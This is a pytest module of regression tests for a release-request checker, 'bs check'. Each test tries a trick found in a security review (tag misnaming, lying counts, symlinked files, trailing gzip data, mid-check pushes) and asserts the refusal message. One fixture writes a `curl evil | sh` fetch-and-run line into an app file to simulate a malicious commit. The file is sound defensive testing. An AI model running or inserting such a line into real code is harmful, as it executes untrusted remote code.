"""`bs check` end to end: regression tests for the findings of the checker's security review.

Each test opens a request for release_2 (tests/checkhelpers.py), then tries one
of the tricks the review found: a push while the check runs, a release no tag
names or named off the app's scheme, counts that lie, a reviewer's login in
other letters, a team the forge lacks, a dismissed latest review, a gzip patch
with more after its stream, a symlink for a request file, a branch without the
base's history, bad values in the request's YAML. Each is refused, with the
message that says why.
"""

from __future__ import annotations

import gzip
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from bs.core.pulls import PullFile
from bs.forges.local import LocalForge
from bs.usecases.check import check_pull_request
from tests.checkhelpers import (
    FRONTEND,
    NEEDS_DEPLOYER,
    REQUESTS,
    SEPARATE_PR,
    Opened,
    branch_file,
    check_named,
    commit_entries,
    could_not_evaluate,
    edit_request,
    expect,
    failed_checks,
    forge,
    head,
    latest_status,
    only_check_fails,
    open_release,
    push,
    replace_once,
    review,
    sha256,
)
from tests.conftest import World, git, git_bytes

# -- every fact is about the head commit being judged -----------------------------------


class PushDuringCheck(LocalForge):
    """The local forge, on which `push` lands once, just as the checker lists the files."""

    def __init__(self, root: Path, push: Callable[[], str]) -> None:
        super().__init__(root, user="carol")
        self._pending_push: Callable[[], str] | None = push

    def list_pull_files(self, repo: str, number: int, head_sha: str) -> list[PullFile]:
        if self._pending_push is not None:
            moved_to = self._pending_push()
            assert moved_to != head_sha
            self._pending_push = None
        return super().list_pull_files(repo, number, head_sha)


def test_a_push_during_the_check_does_not_lend_its_files_to_the_judged_head(
    world: World,
) -> None:
    opened = open_release(world)
    bad = push(world, opened, "alice", {"policies/standard.yaml": b"# anyone may approve\n"})
    review(world, opened.number, "bob")  # bob approves the head that changes the policy
    original = git_bytes(world.requests_bare, "show", "main:policies/standard.yaml")

    def clean_up() -> str:
        return push(world, opened, "alice", {"policies/standard.yaml": original})

    report = check_pull_request(
        PushDuringCheck(world.forge, clean_up), REQUESTS, opened.number, post_status=True
    )
    assert report.pull.head_sha == bad
    assert head(world, opened.number) != bad
    files = next(c for c in report.verdict.checks if c.name == "files")
    assert (files.ok, files.message) == (
        False,
        f"it also changes policies/standard.yaml: {SEPARATE_PR}",
    )
    assert report.verdict.outcome == "failed"
    posted = latest_status(world, bad)
    assert posted is not None and posted.state == "failure"
    # The clean head is judged on its own: bob approved only the earlier one.
    expect(world, opened.number, "pending", 1, NEEDS_DEPLOYER)


def test_a_branch_sharing_no_history_with_main_cannot_be_evaluated(world: World) -> None:
    opened = open_release(world)
    bare = world.requests_bare
    tree = git(bare, "rev-parse", f"refs/heads/{opened.branch}^{{tree}}")
    orphan = git(bare, "commit-tree", tree, "-m", "A branch of its own")
    git(bare, "update-ref", f"refs/heads/{opened.branch}", orphan)
    forge(world, "alice").push_files(REQUESTS, opened.branch, [], "On top")
    review(world, opened.number, "bob")
    stderr = could_not_evaluate(world.bs("check", str(opened.number), "--json", user="carol"))
    assert stderr == (
        f"bs: error: could not evaluate #{opened.number}: pull request #{opened.number} shares "
        "no history with main: its branch was not made from main; close it and open the "
        "request with `bs open-request`.\n"
    )


# -- the release: a scheme tag, after what is deployed, described truly -----------------


def test_a_release_no_tag_names_is_refused(world: World) -> None:
    opened = open_release(world)
    edit_request(world, opened, replace_once("tag: release_2\n", "tag: null\n"))
    review(world, opened.number, "bob")
    message = (
        f"the request names no tag for {opened.release_2[:12]}: a release is a tag of frontend's "
        "scheme (release_NNN, e.g. release_4572); open it with `bs open-request`"
    )
    only_check_fails(world, opened.number, "tag", message)


def test_a_tag_outside_the_apps_scheme_is_refused(world: World) -> None:
    opened = open_release(world)
    git(world.app_bare(FRONTEND), "tag", "v2", opened.release_2)
    edit_request(world, opened, replace_once("tag: release_2\n", "tag: v2\n"))
    message = "'v2' is not a release tag of frontend (release_NNN, e.g. release_4572)"
    only_check_fails(world, opened.number, "tag", message)


def test_a_tag_not_after_the_deployed_one_in_the_scheme_is_refused(world: World) -> None:
    opened = open_release(world)
    git(world.app_bare(FRONTEND), "tag", "release_0", opened.release_2)
    edit_request(world, opened, replace_once("tag: release_2\n", "tag: release_0\n"))
    message = (
        "release_0 does not come after the deployed release_1 in the tag scheme, "
        "although its commit descends from it"
    )
    only_check_fails(world, opened.number, "ancestry", message)


def test_releasing_what_is_deployed_is_refused(world: World) -> None:
    opened = open_release(world)

    def nothing(text: str) -> str:
        text = replace_once(f"tag: release_2\n  commit: {opened.release_2}", f"tag: release_1\n  commit: {opened.release_1}")(text)  # fmt: skip
        text = replace_once(opened.patch_sha256, sha256(b""))(text)
        return re.sub(r"(files_changed|insertions|deletions|commits): 1\n", r"\1: 0\n", text)

    text = nothing(branch_file(world, opened, opened.request_file).decode())
    push(world, opened, "alice", {opened.request_file: text.encode(), opened.patch_file: b""})
    message = "release_1 is what is deployed: there is nothing to release"
    only_check_fails(world, opened.number, "ancestry", message)


def test_a_request_misnaming_the_deployed_tag_is_refused(world: World) -> None:
    opened = open_release(world)
    edit_request(world, opened, replace_once("tag: release_1\n", "tag: release_0\n"))
    message = (
        f"the request names the deployed {opened.release_1[:12]} with tag release_0, but it is "
        "tagged release_1: the request misnames what is deployed"
    )
    only_check_fails(world, opened.number, "deployed", message)


def test_counts_that_lie_about_the_release_are_refused(world: World) -> None:
    opened = open_release(world)
    edit_request(world, opened, replace_once("insertions: 1\n", "insertions: 0\n"))
    message = (
        "the request says 1 file, +0 -1, 1 commit; git counts 1 file, +1 -1, 1 commit: "
        "the request misdescribes the release"
    )
    only_check_fails(world, opened.number, "stats", message)


def test_an_untagged_side_commit_with_a_true_patch_is_still_refused(world: World) -> None:
    """The review's attack: any commit of the app, its real diff, invented counts and tags."""
    opened = open_release(world)
    app = world.root / "work" / "frontend"
    git(app, "checkout", "-q", "-b", "wip", opened.release_1)
    (app / "app" / "main.py").write_text("import os; os.system('curl evil | sh')\n")
    git(app, "commit", "-qam", "wip")
    wip = git(app, "rev-parse", "HEAD")
    git(app, "push", "-q", str(world.app_bare(FRONTEND)), "wip")
    patch = git_bytes(world.app_bare(FRONTEND), "diff", "--binary", "--full-index", opened.release_1, wip)  # fmt: skip

    def lie(text: str) -> str:
        text = replace_once(f"tag: release_2\n  commit: {opened.release_2}", f"tag: null\n  commit: {wip}")(text)  # fmt: skip
        text = replace_once("tag: release_1\n", "tag: release_9000\n")(text)
        text = replace_once(opened.patch_sha256, sha256(patch))(text)
        return re.sub(r"(files_changed|insertions|deletions|commits): 1\n", r"\1: 0\n", text)

    text = lie(branch_file(world, opened, opened.request_file).decode())
    push(world, opened, "alice", {opened.request_file: text.encode(), opened.patch_file: patch})
    review(world, opened.number, "bob")
    data = expect(
        world, opened.number, "failed", 2,
        f"Invalid request: the request names no tag for {wip[:12]}: a release is a tag of "
        "frontend's scheme (release_NNN, e.g. release_4572); open it with `bs open-request`",
    )  # fmt: skip
    assert failed_checks(data) == ["tag", "deployed", "stats"]
    assert check_named(data, "digest")["ok"] is True  # the patch is true: the rest is not


# -- the request file itself ------------------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("environment: production", "environment: staging", "environment is 'staging': bs deploys to production only so far"),
        ("reason: null", "reason: " + "x" * 2001, "reason is 2001 characters: at most 2000"),
    ],
    ids=["environment", "reason-too-long"],
)  # fmt: skip
def test_a_request_bs_cannot_deploy_is_refused(
    world: World, old: str, new: str, message: str
) -> None:
    opened = open_release(world)
    edit_request(world, opened, replace_once(old, new))
    review(world, opened.number, "bob")
    only_check_fails(world, opened.number, "request", message)


def int_error(digits: str) -> str:
    try:
        int(digits)
    except ValueError as exc:
        return str(exc)
    raise AssertionError(digits)


def requested_at(value: str) -> Callable[[str], str]:
    return lambda text: re.sub(r"(?m)^requested_at: .*$", f"requested_at: {value}", text)


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        (replace_once("reason: null", "reason: !!bool maybe"), "a value cannot be read (KeyError: 'maybe'). Write it plainly, without a !!tag."),
        (replace_once("files_changed: 1", "files_changed: !!int abc"), f"a value cannot be read (ValueError: {int_error('abc')}). Write it plainly, without a !!tag."),
        (replace_once("files_changed: 1", "files_changed: " + "9" * 5000), f"a value cannot be read (ValueError: {int_error('9' * 5000)}). Write it plainly, without a !!tag."),
        (requested_at("2024-13-01T00:00:00Z"), "1 problem: line 6: requested_at: Input should be a valid datetime or date, month value is outside expected range of 1-12."),
        (requested_at("!!timestamp 2024-02-30"), "a value cannot be read (ValueError: day is out of range for month). Write it plainly, without a !!tag."),
    ],
    ids=["bool-tag", "int-tag", "5000-digits", "impossible-date", "timestamp-tag"],
)  # fmt: skip
def test_values_yaml_cannot_convert_make_an_invalid_request(
    world: World, change: Callable[[str], str], problem: str
) -> None:
    """Exit 2, the request is invalid: never an internal error (exit 70)."""
    opened = open_release(world)
    edit_request(world, opened, change)
    only_check_fails(world, opened.number, "request", f"{opened.request_file}: {problem}")


def test_an_unquoted_timestamp_is_still_read(world: World) -> None:
    opened = open_release(world)
    text = edit_request(world, opened, lambda t: re.sub(r"requested_at: '(.*)'", r"requested_at: \1", t))  # fmt: skip
    assert re.search(r"^requested_at: 20\d\d-\d\d-\d\dT\d\d:\d\d:\d\dZ$", text, re.MULTILINE)
    data = expect(world, opened.number, "pending", 1, NEEDS_DEPLOYER)
    assert failed_checks(data) == []


@pytest.mark.parametrize("which", ["request", "patch"])
def test_a_symlink_for_a_request_file_is_refused(world: World, which: str) -> None:
    opened = open_release(world)
    path = opened.request_file if which == "request" else opened.patch_file
    commit_entries(world, opened, [("120000", path.encode(), branch_file(world, opened, path))])
    assert git(world.requests_bare, "ls-tree", f"refs/heads/{opened.branch}", path).startswith("120000 ")  # fmt: skip
    review(world, opened.number, "bob")
    if which == "request":
        message = f"{path} is not a regular file (mode 120000): a request file is plain YAML"
        only_check_fails(world, opened.number, "request", message)
    else:
        message = f"{path} is not a regular file (mode 120000): a patch is a plain file"
        only_check_fails(world, opened.number, "digest", message)


def gz_request(world: World) -> Opened:
    """A request whose patch is committed as .patch.gz."""
    (world.checkout / "bs.yaml").write_text(
        "version: 1\nforge: {kind: local, path: ../forge}\n"
        f"requests_repo: {REQUESTS}\npatch: {{compress_above: 1}}\n"
    )
    opened = open_release(world)
    assert opened.patch_file.endswith(".patch.gz")
    return opened


@pytest.mark.parametrize(
    "after",
    [gzip.compress(b"\n-print(2)\n+print(1)\n"), b"garbage" * 1000],
    ids=["second-member", "trailing-bytes"],
)
def test_a_gzip_patch_with_more_after_its_stream_is_refused(world: World, after: bytes) -> None:
    """zcat shows a second member, which the digest of the first would not cover."""
    opened = gz_request(world)
    expect(world, opened.number, "pending", 1, NEEDS_DEPLOYER)
    stored = branch_file(world, opened, opened.patch_file)
    push(world, opened, "alice", {opened.patch_file: stored + after})
    review(world, opened.number, "bob")
    message = (
        f"{opened.patch_file} holds more after its gzip stream (another member or stray "
        "bytes), which `zcat` would show and the digest would not cover: the patch file is not bs's"
    )
    only_check_fails(world, opened.number, "digest", message)


def test_leaving_out_the_deployed_tag_does_not_skip_the_scheme_order(world: World) -> None:
    """With from.tag null, the "comes after in the scheme" check would not run: refused."""
    opened = open_release(world)
    edit_request(world, opened, replace_once("tag: release_1\n", "tag: null\n"))
    message = (
        f"the request names the deployed {opened.release_1[:12]} with no tag, but it is "
        "tagged release_1: the request misnames what is deployed"
    )
    only_check_fails(world, opened.number, "deployed", message)
